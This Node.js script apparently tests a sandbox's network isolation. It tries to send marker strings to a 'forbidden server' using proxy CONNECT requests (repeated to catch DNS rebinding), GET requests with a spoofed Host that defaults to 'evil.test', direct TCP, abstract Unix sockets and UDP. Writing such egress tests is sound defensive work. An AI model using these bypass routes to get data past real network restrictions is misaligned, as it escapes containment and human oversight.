// Runs in the sandbox: `node try-tricks.js PORT TRICKS`. Tries to send the number of each trick to the forbidden server.
const { createSocket } = require("node:dgram");
const { connect } = require("node:net");

const port = Number(process.argv[2]);
const tricks = JSON.parse(process.argv[3]);
const proxy = new URL(process.env.HTTPS_PROXY);
const giveUpMs = 3000;

/** Writes to a socket, and ends when the other side has answered or closed. */
function exchange(options, first, then) {
  return new Promise((resolve) => {
    const socket = connect(options);
    socket.setTimeout(giveUpMs, () => socket.destroy());
    socket.on("error", () => {});
    socket.on("close", resolve);
    if (first !== null) socket.write(first);
    if (first === null) socket.end(then);
    else socket.once("data", () => socket.end(then));
  });
}

const atProxy = { host: proxy.hostname, port: Number(proxy.port) };

async function attempt(trick, index) {
  const text = `trick-${index}.\n`;
  if ("connect" in trick) {
    const head = `CONNECT ${trick.connect} HTTP/1.1\r\nHost: ${trick.connect}\r\n\r\n`;
    // Twice: a name can have another address the second time.
    for (const _ of [1, 2]) await exchange(atProxy, head, text);
  } else if ("url" in trick) {
    const host = trick.host ?? "evil.test";
    await exchange(atProxy, `GET ${trick.url} HTTP/1.1\r\nHost: ${host}\r\nX-Text: ${text.trim()}\r\n\r\n`, "");
  } else if ("tcp" in trick) await exchange({ host: trick.tcp, port: trick.port ?? port }, null, text);
  else if ("abstract" in trick) await exchange({ path: `\0${trick.abstract}` }, null, text);
  else {
    const socket = createSocket("udp4");
    await new Promise((resolve) => socket.send(text, port, trick.udp, resolve));
    socket.close();
  }
}

async function main() {
  await exchange(atProxy, `CONNECT allowed.test:${port} HTTP/1.1\r\n\r\n`, "allowed.\n");
  for (let start = 0; start < tricks.length; start += 8) {
    await Promise.all(tricks.slice(start, start + 8).map((trick, index) => attempt(trick, start + index)));
  }
  console.log("tried");
}
void main();
